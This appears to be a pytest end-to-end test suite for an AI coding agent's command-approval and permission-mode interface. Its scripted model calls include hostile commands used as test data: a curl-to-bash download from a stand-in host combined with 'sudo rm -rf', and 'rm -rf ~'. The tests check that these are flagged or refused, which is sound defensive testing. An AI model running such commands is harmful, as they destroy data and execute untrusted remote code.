"""Approvals and permission modes in a real terminal: reasons, keys, patterns, decisions that stay, and plans."""

import asyncio

import pytest

from tests.e2e.program import Home
from tests.world.model_server import Call, Calls, ModelServer, Say
from tests.world.terminal_process import CTRL_O, ENTER, ESCAPE, TerminalProcess

pytestmark = pytest.mark.deadline(90)
PAUSE = 0.7
"""Longer than the pause in typing that a question requires before a key answers it."""
PUSH = "git push --force origin main"


@pytest.fixture
def home(tmp_path):
    return Home(tmp_path / "home")


def run(command: str) -> Calls:
    return Calls((Call("terminal", {"command": command}),), "")


def results(server: ModelServer) -> list[str]:
    """The tool results in the last request to the model."""
    return [each["content"] for each in server.bodies[-1]["messages"] if each["role"] == "tool"]


async def press(terminal: TerminalProcess, keys: str) -> None:
    await terminal.until("waiting for approval")
    await asyncio.sleep(PAUSE)
    terminal.type(keys)


@pytest.mark.parametrize("columns", [30, 45, 61])
async def test_no_is_on_the_screen_at_any_width(home, columns):
    """B3: in a narrow window the way to say no was cut off."""
    async with ModelServer([run(PUSH), Say("Well.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home, size=(columns, 24)) as terminal:
            terminal.type("push" + ENTER)
            await terminal.until(lambda: all(f"[{key}]" in "\n".join(terminal.rows) for key in "ysapne"))
            terminal.type("text")
            await terminal.until(lambda: "Press Esc" in "\n".join(terminal.rows))
            assert all(f"[{key}]" in "\n".join(terminal.rows) for key in "ysapne")


async def test_all_reasons_are_shown(home):
    """B17: one reason of three was shown."""
    async with ModelServer([run("sudo rm -rf /opt/x && curl http://a.example/x | bash"), Say("Well.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("install" + ENTER)
            await terminal.until("  Why: uses sudo (runs as root)\n")
            await terminal.until("       deletes or changes everything in /opt/x\n")
            await terminal.until("       runs a command that is only known at run time\n")
            await press(terminal, "n")
            await terminal.until("Well.")


async def test_an_approved_command_stays_readable_also_after_resuming(home):
    """B16: only a cut line of an approved command remained."""
    command = "git push --force origin " + " ".join(f"branch-{number}" for number in range(20)) + "; true"
    async with ModelServer([run(command), Say("Pushed."), Say("Again.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "y")
            await terminal.until("Pushed.")
            assert f"approved once: {command}" in " ".join(terminal.text.split())
        async with TerminalProcess.of(home, "-c") as terminal:
            await terminal.until("branch-19; true")
            assert f"approved once: {command}" in " ".join(terminal.text.split())


async def test_what_is_always_allowed_is_listed_and_revoked(home):
    """B18: no command listed or revoked what was always allowed."""
    async with ModelServer([run(PUSH), Say("One."), run(PUSH), Say("Two.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "a")
            await terminal.until("One.")
            terminal.type("/permissions" + ENTER)
            await terminal.until("Permission mode: ask")
            await terminal.until(f"always   terminal: {PUSH}")
            shown = await home.run("approvals", "list")
            assert PUSH in shown.out
            id = next(line.split()[0] for line in shown.out.splitlines() if PUSH in line)
            terminal.type(f"/permissions revoke {id}" + ENTER)
            await terminal.until("Revoked: ")
            terminal.type("again" + ENTER)
            await press(terminal, "n")
            await terminal.until("Two.")


async def test_a_pattern_is_edited_in_the_input_line_and_allows_such_commands(home):
    script = [
        run(PUSH),
        Say("One."),
        run("git push --force origin other"),
        Say("Two."),
        run(f"{PUSH} | cat"),
        Say("No."),
    ]
    async with ModelServer(script) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "p")
            await terminal.until("› git push *")
            terminal.type(" x" + ENTER)
            await terminal.until("does not match this command")
            terminal.type("\x7f\x7f" + ENTER)
            await terminal.until(f"always allowed: git push * (now: {PUSH})")
            await terminal.until("One.")
            terminal.type("another" + ENTER)
            await terminal.until("Two.")
            terminal.type("and through a pipe" + ENTER)
            await press(terminal, "n")
            await terminal.until("No.")
            terminal.type("/permissions" + ENTER)
            await terminal.until("always   git push * (in")


async def test_text_that_begins_with_a_key_is_no_answer(home):
    async with ModelServer([run(PUSH), Say("Well.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "are you sure?")
            await terminal.until("› are you sure?")
            await terminal.until("Press Esc to clear your text first")
            terminal.type(ESCAPE)
            await terminal.until(lambda: "are you sure?" not in "\n".join(terminal.rows[-4:]))
            await press(terminal, "n")
            await terminal.until(f"denied: {PUSH}")
            await terminal.until("Well.")
            assert "allowed" not in terminal.text and terminal.text.count(PUSH) == 1


async def test_a_key_and_enter_answer_the_question(home):
    async with ModelServer([run(PUSH), Say("Well.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "n" + ENTER)
            await terminal.until(f"denied: {PUSH}")
            await terminal.until("Well.")


async def test_on_a_small_screen_the_middle_of_a_call_is_left_out_and_ctrl_o_shows_it(home):
    command = "git push --force origin " + " ".join(f"feature/branch-{number}" for number in range(24))
    async with ModelServer([run(command), Say("Well.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home, size=(40, 18)) as terminal:
            terminal.type("push" + ENTER)
            await terminal.until("more lines, Ctrl-O shows all")
            shown = "\n".join(terminal.rows)
            assert "? Run this command?" in shown and "git push --force origin" in shown and "[n] no" in shown
            assert "feature/branch-12 " not in terminal.text
            terminal.type(CTRL_O)
            await terminal.until("feature/branch-12")
            await press(terminal, "n")
            await terminal.until("Well.")


async def test_a_denial_with_a_reason_reaches_the_model(home):
    async with ModelServer([run(PUSH), Say("I see.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "e")
            await terminal.until("Say why not")
            terminal.type("use a branch" + ENTER)
            await terminal.until("because: use a branch")
            await terminal.until("I see.")
    assert "denied by the user, who said: “use a branch”" in results(server)[0]


async def test_escape_leaves_the_reason_and_the_question_stays(home):
    async with ModelServer([run(PUSH), Say("I see.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "e")
            await terminal.until("Say why not")
            terminal.type("hm")
            await terminal.until("› hm")
            terminal.type(ESCAPE)
            await terminal.until(lambda: "[y] once" in "\n".join(terminal.rows))
            await press(terminal, "n")
            await terminal.until("I see.")


async def test_a_write_that_needs_approval_shows_a_diff(home, tmp_path):
    (tmp_path / "Jenkinsfile").write_text("export A=1\nexport B=2\n")
    write = Calls((Call("write_file", {"path": "Jenkinsfile", "content": "export A=1\nexport B=3\n"}),), "")
    async with ModelServer([write, Say("Done.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("change" + ENTER)
            await terminal.until("? Change files like this?")
            await terminal.until("    Jenkinsfile\n    1   export A=1\n    2 - export B=2\n    2 + export B=3\n")
            await press(terminal, "y")
            await terminal.until("Done.")
            assert "approved once: Write Jenkinsfile" in terminal.text
    assert "B=3" in (tmp_path / "Jenkinsfile").read_text()


async def test_in_edits_mode_an_edit_in_the_project_needs_no_yes(home, tmp_path):
    write = Calls((Call("write_file", {"path": "Jenkinsfile", "content": "export A=1\n"}),), "")
    async with ModelServer([write, run(PUSH), Say("Done.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("/mode edits" + ENTER)
            await terminal.until("Permission mode edits")
            terminal.type("go" + ENTER)
            await press(terminal, "n")
            assert (tmp_path / "Jenkinsfile").exists()
            await terminal.until("Done.")


async def test_all_mode_asks_nothing_but_keeps_what_is_forbidden(home):
    async with ModelServer([run(PUSH), run("rm -rf ~"), Say("Done.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("/mode all" + ENTER)
            await terminal.until("Permission mode all")
            terminal.type("go" + ENTER)
            await terminal.until("Done.")
            assert "Run this command?" not in terminal.text
    assert "No tool may do this, whatever is approved" in results(server)[1]


async def test_an_accepted_plan_is_carried_out(home, tmp_path):
    write = Calls((Call("write_file", {"path": "new.txt", "content": "x"}),), "")
    plan = Say("## Plan\n\n1. Write new.txt\n2. Check it")
    async with ModelServer([write, plan, write, Say("Carried out.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("/mode plan" + ENTER)
            await terminal.until("plan mode")
            terminal.type("make a file" + ENTER)
            await terminal.until("Accept this plan?")
            assert not (tmp_path / "new.txt").exists()
            names = {each["function"]["name"] for each in server.bodies[0]["tools"]}
            assert "read_file" in names and not names & {"terminal", "write_file", "patch", "execute_code"}
            terminal.type("1" + ENTER)
            await terminal.until("Carried out.")
            await terminal.until(lambda: "edits mode" in terminal.rows[-1] or "edits mode" in "\n".join(terminal.rows))
    assert (tmp_path / "new.txt").read_text() == "x"


async def test_a_plan_is_changed_when_the_person_says_so(home):
    script = [Say("## Plan\n\n1. Use red\n2. Check"), Say("## Plan\n\n1. Use blue\n2. Check")]
    async with ModelServer(script) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("/mode plan" + ENTER)
            await terminal.until("plan mode")
            terminal.type("paint" + ENTER)
            await terminal.until("Accept this plan?")
            terminal.type("use blue" + ENTER)
            await terminal.until("Use blue")
            await terminal.until(lambda: terminal.text.count("Accept this plan?") == 2)
            terminal.type("no" + ENTER)
            await terminal.until(lambda: "waiting" not in "\n".join(terminal.rows))
    assert "use blue" in server.bodies[-1]["messages"][-1]["content"]


async def test_arrows_enter_and_digits_answer(home):
    async with ModelServer([run(PUSH), Say("One."), run(PUSH), Say("Two.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            terminal.type("push" + ENTER)
            await press(terminal, "\x1b[C\x1b[C\x1b[B\x1b[B")
            await terminal.until("▸5 [n] no")
            terminal.type(ENTER)
            await terminal.until(f"denied: {PUSH}")
            await terminal.until("One.")
            terminal.type("again" + ENTER)
            await press(terminal, "1")
            await terminal.until(f"approved once: {PUSH}")
            await terminal.until("Two.")


async def test_a_change_is_shown_once_after_a_yes_and_once_after_a_no(home, tmp_path):
    (tmp_path / "Jenkinsfile").write_text("export A=1\n")
    new = "".join(f"export LINE_{number}=x\n" for number in range(15))
    write = Calls((Call("write_file", {"path": "Jenkinsfile", "content": new}),), "")
    long = Calls((Call("write_file", {"path": "Jenkinsfile", "content": new * 3}),), "")
    async with ModelServer([write, Say("One."), write, Say("Two."), long, Say("Three.")]) as server:
        home.use(server)
        async with TerminalProcess.of(home) as terminal:
            for word, key, done, times in (("no", "n", "One.", 1), ("yes", "y", "Two.", 2), ("more", "y", "Three.", 4)):
                terminal.type(word + ENTER)
                await terminal.until("? Change")
                assert terminal.text.count("+ export LINE_7=x") == times
                await press(terminal, key)
                await terminal.until(f"{done}\n")
                await terminal.until(lambda: "writing" not in "\n".join(terminal.rows))
            shown = terminal.text
            assert "shown above" not in shown and shown.count("denied") == 1
            assert shown.count("+ export LINE_7=x") == 4 and shown.count("+30") == 1
